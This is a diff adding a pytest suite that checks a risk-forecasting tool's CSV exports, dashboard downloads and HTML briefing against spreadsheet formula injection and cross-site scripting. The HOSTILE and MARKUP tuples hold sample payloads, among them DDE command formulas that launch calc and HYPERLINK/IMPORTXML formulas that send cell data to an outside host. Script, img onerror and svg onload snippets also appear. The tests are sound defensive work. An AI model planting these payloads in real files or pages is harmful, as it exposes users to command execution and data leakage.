@@ -1,0 +1,320 @@
+"""No way out of the product holds a cell that a spreadsheet would run, or markup that is alive."""
+
+import csv
+import io
+import re
+import zipfile
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import numpy as np
+import pandas as pd
+import pytest
+import streamlit
+from hypothesis import given
+from hypothesis import strategies as st
+from streamlit.testing.v1 import AppTest
+
+from risk.briefing import briefing
+from risk.cells import neutral, plain
+from risk.cli import main
+from risk.evidence import read_evidence, to_bytes
+from risk.evidence_cells import COLUMNS
+from risk.export import to_csv
+from risk.forecast import Forecaster
+from risk.indicators import INDICATORS
+from risk.months import to_month
+from risk.package import DATA, TABLES, _to_bytes
+from risk.settings import Settings
+from risk.table import Scorer
+from tests.test_repository import ROOT, tracked_files
+
+HOSTILE = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "'=1+1",
+    '"=1+1"',
+    "\"'=1+1",
+    "=cmd|' /C calc'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=HYPERLINK("http://example.org/?"&A1,"Click")',
+    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
+    "-2+3+cmd|' /C calc'!A0",
+)  # fmt: skip
+MARKUP = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</style><script>alert(1)</script>",
+    "</title><svg onload=alert(1)>",
+    "javascript:alert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
+AS_OF = to_month("2021-06")
+# Written apart from the product's own pattern: what is left of a cell without unseen leaders.
+LEADERS = " '\"\t\r\n\x0b\x0c\x00\u00a0\u00ad\u200b\u2060\ufeff"
+STARTS = tuple("=+-@＝＋－＠")
+
+
+def would_run(cell):
+    if cell.startswith("'"):  # a spreadsheet takes the rest for text
+        return False
+    return cell.startswith(("\t", "\r", "\n")) or cell.lstrip(LEADERS).startswith(STARTS)
+
+
+def is_number(cell):
+    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell))
+
+
+def rows_of(content):
+    text = content.decode("utf-8")
+    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
+
+
+def checked(content):
+    """Cells of a CSV file, none of which runs; a number may begin with its minus."""
+    cells = [cell for row in rows_of(content) for cell in row]
+    assert cells
+    assert [c for c in cells if would_run(c) and not is_number(c)] == []
+    return cells
+
+
+def csv_line(cells):
+    buffer = io.StringIO()
+    csv.writer(buffer).writerow(cells)
+    return buffer.getvalue()
+
+
+def evidence_of(texts):
+    """Evidence whose references and notes are the texts, one row each."""
+    lines = [csv_line(COLUMNS)]
+    for number, text in enumerate(texts):
+        row = {"date": f"20{number:02d}-06-01", "known_since": f"20{number:02d}-06-02",
+               "source_iso3": "AFG", "receiver_iso3": "", "indicator": "territory_controlled",
+               "value": "50", "unit": INDICATORS["territory_controlled"].unit, "low": "",
+               "high": "", "reliability": "C", "reference": f"'{text}", "note": text}  # fmt: skip
+        lines.append(csv_line(row.values()))
+    return read_evidence(io.BytesIO("".join(lines).encode()), name="hostile.csv")
+
+
+@pytest.fixture(scope="module")
+def evil(scorer):
+    """The shipped data, in which every country bears a hostile name."""
+    names = [*HOSTILE, *MARKUP]
+    countries = scorer.panel.countries
+    evil_names = [f"{names[k % len(names)]}{k}" for k in range(len(countries))]
+    panel = replace(scorer.panel, countries=countries.assign(country=evil_names))
+    return Scorer(Forecaster(panel, scorer.forecaster.models))
+
+
+@pytest.fixture(scope="module")
+def evil_settings():
+    return Settings(AS_OF, evidence=evidence_of([*HOSTILE, *MARKUP]))
+
+
+# The rule
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_text_is_neutralised_and_comes_back(text):
+    assert would_run(text) or text.startswith("'")
+    assert neutral(text) == f"'{text}"
+    assert plain(neutral(text)) == text
+
+
+@given(st.text(st.characters(codec="utf-8"), max_size=12))
+def test_no_text_runs_once_it_is_neutral_and_none_is_lost(text):
+    assert not would_run(neutral(text))
+    assert plain(neutral(text)) == (plain(text) if neutral(text) == text else text)
+
+
+@pytest.mark.parametrize(
+    "text", ["Côte d'Ivoire", "2021-06", "a=b", "12 %", "", "'tis", '"so"', "–", "(=1)"]
+)
+def test_a_harmless_text_is_left_as_it_is(text):
+    assert neutral(text) == text
+
+
+def test_negative_numbers_stay_numbers():
+    table = pd.DataFrame(
+        {"change": [-0.25, np.nan], "count": [-3, 4], "whole": pd.array([-1, None], "Int64"),
+         "mixed": [-1.5, "-1.5"]}
+    )  # fmt: skip
+    assert rows_of(to_csv(table))[1:] == [["-0.25", "-3", "-1", "-1.5"], ["", "4", "", "'-1.5"]]
+
+
+def test_a_header_is_neutralised_too():
+    assert to_csv(pd.DataFrame({"=1+1": ["a"]})) == b"'=1+1\r\na\r\n"
+
+
+# The command line
+
+
+@pytest.mark.parametrize("options", [[], ["--corridors"]])
+def test_what_score_writes(evil, evil_settings, tmp_path, monkeypatch, options):
+    monkeypatch.setattr("risk.cli.load_scorer", lambda *_: evil)
+    (tmp_path / "evil.csv").write_bytes(to_bytes(evil_settings.evidence))
+    arguments = ["--as-of", "2021-06", "--evidence", str(tmp_path / "evil.csv"), *options]
+    assert main(["score", *arguments, "--out", str(tmp_path / "t.csv")]) == 0
+    cells = checked((tmp_path / "t.csv").read_bytes())
+    neutralised = {re.sub(r"\d*$", "", c) for c in cells if c.startswith("'")}
+    assert len(neutralised) > 10
+    contributions = [c for c in cells if c.startswith("-") and is_number(c)]
+    assert contributions == [] or all(float(c) < 0 for c in contributions)
+
+
+def test_what_verify_writes(evil, tmp_path, monkeypatch):
+    levels = evil.backtest.levels
+    past = {
+        "=1+1": evil.backtest.probabilities(),
+        "climatology": {name: dict(level.climatology) for name, level in levels.items()},
+    }
+    monkeypatch.setattr("risk.cli.load_scorer", lambda *_: evil)
+    monkeypatch.setattr("risk.cli.forecasts_of", lambda *_, **__: past)
+    monkeypatch.setattr("risk.cli.scored", lambda *_: {"scores": [], "differences": []})
+    monkeypatch.setattr("risk.cli.as_text", lambda *_: "")
+    assert main(["verify", "--forecasts", str(tmp_path / "f.csv")]) == 0
+    assert "'=1+1" in checked((tmp_path / "f.csv").read_bytes())
+
+
+@pytest.mark.parametrize("name", TABLES)
+def test_what_build_writes_as_csv(name):
+    columns = TABLES[name].columns
+    frame = pd.DataFrame(
+        {c.name: HOSTILE if c.kind == "text" else range(len(HOSTILE)) for c in columns}
+    )
+    content = _to_bytes(frame, name)
+    if content[:4] != b"PAR1":
+        texts = sum(c.kind == "text" for c in columns)
+        assert sum(c.startswith("'") for c in checked(content)) == texts * len(HOSTILE)
+
+
+def test_every_csv_file_of_the_repository():
+    files = tracked_files("*.csv")
+    assert {path.relative_to(ROOT).parts[0] for path in files} == {"data", "models", "seeds"}
+    for path in files:
+        checked(path.read_bytes())
+    assert DATA / "countries.csv" not in files  # they bear their hash
+
+
+# The dashboard: every download button there is, on every page
+
+PAGES = {"map": "map_page", "country": "country_page", "compare": "compare_page",
+         "track": "track_record", "method": "method_page"}  # fmt: skip
+VIEW = {"as_of": "2021-06", "source": "AFG", "country": "TJK"}
+
+
+@pytest.fixture(scope="module")
+def downloads(evil, evil_settings):
+    """The files that the pages' download buttons give: name and content, by the button's key."""
+    files = {}
+
+    def button(label, data, file_name, mime=None, *, key, **_):
+        files[key] = file_name, data() if callable(data) else data
+
+    def draw(module, page):
+        from importlib import import_module
+
+        getattr(import_module(f"risk.dashboard.{module}"), f"{page}_page")()
+
+    digest = evil_settings.evidence.digest
+    here = {digest: ("=evil.csv", evil_settings.evidence)}
+    expander = streamlit.expander
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("risk.dashboard.data.load_scorer", lambda **_: evil)
+        patch.setattr("risk.dashboard.evidence_store.at_hand", lambda _: here)
+        patch.setattr("risk.dashboard.evidence_panel.at_hand", lambda _: here)
+        patch.setattr(streamlit, "download_button", button)
+        patch.setattr(streamlit, "expander", lambda label, _=None, **o: expander(label, True, **o))
+        streamlit.cache_data.clear()
+        streamlit.cache_resource.clear()
+        for page, module in PAGES.items():
+            app = AppTest.from_function(draw, args=(module, page), default_timeout=120)
+            for name, value in {**VIEW, "evidence": digest}.items():
+                app.query_params[name] = value
+            assert not app.run().exception
+    streamlit.cache_data.clear()
+    streamlit.cache_resource.clear()
+    return files
+
+
+def test_every_download_button_of_the_code_was_pressed(downloads):
+    code = "".join(path.read_text() for path in tracked_files("risk/dashboard/*.py"))
+    assert set(re.findall(r'download_button\([^@]*?key="(\w+)"', code)) == set(downloads)
+    assert len(re.findall("download_button", code)) == len(downloads) >= 7
+
+
+def test_every_csv_file_of_the_pages(downloads):
+    tables = {key: content for key, (name, content) in downloads.items() if name.endswith(".csv")}
+    assert len(tables) == len(downloads) - 2
+    for content in tables.values():
+        checked(content)
+    changes = checked(tables["csv_changes"])
+    assert any(float(c) < 0 for c in changes if is_number(c))  # falls are negative numbers
+    for key in ("csv_countries", "csv_corridors", "csv_changes", "csv_comparison"):
+        assert any(cell.startswith("'") for cell in checked(tables[key])), key
+
+
+def test_every_csv_file_of_the_zip(downloads):
+    name, content = downloads["bundle"]
+    assert name.endswith(".zip")
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        found = {name: archive.read(name) for name in archive.namelist()}
+    assert {"countries.csv", "corridors.csv", "evidence.csv"} <= set(found)
+    for name in found:
+        if name.endswith(".csv"):
+            cells = checked(found[name])
+            assert any(cell.startswith("'") for cell in cells)
+    assert {f"'{text}" for text in HOSTILE if text == text.strip()} <= set(
+        checked(found["evidence.csv"])
+    )
+
+
+# The briefing
+
+
+class Elements(HTMLParser):
+    """Tags, attributes and text of a document, as a browser sees them."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.tags, self.attributes, self.texts = set(), [], []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data):
+        self.texts.append(data)
+
+
+@pytest.mark.parametrize("country", [None, "TJK"])
+def test_the_briefing_has_no_script_and_shows_hostile_texts_as_text(evil, evil_settings, country):
+    text = briefing(evil, replace(evil_settings, source="AFG"), country).decode()
+    found = Elements(text)
+    assert not found.tags & {"script", "img", "iframe", "object", "embed", "link", "base", "form",
+                             "input", "foreignobject", "animate", "set", "use", "a"}  # fmt: skip
+    names = {name.lower() for name, _ in found.attributes}
+    assert not {name for name in names if name.startswith("on")}
+    assert not names & {"href", "xlink:href", "src", "srcset", "action", "style", "formaction"}
+    read = " ".join(found.texts)
+    shown = [markup for markup in MARKUP if markup in read]
+    assert "<script>alert(1)</script>" in shown and len(shown) >= 2
+
+
+def test_the_way_that_the_parser_sees_markup_finds_a_script():
+    found = Elements('<p onclick="x">a</p><script>b</script>')
+    assert found.tags == {"p", "script"} and found.attributes == [("onclick", "x")]
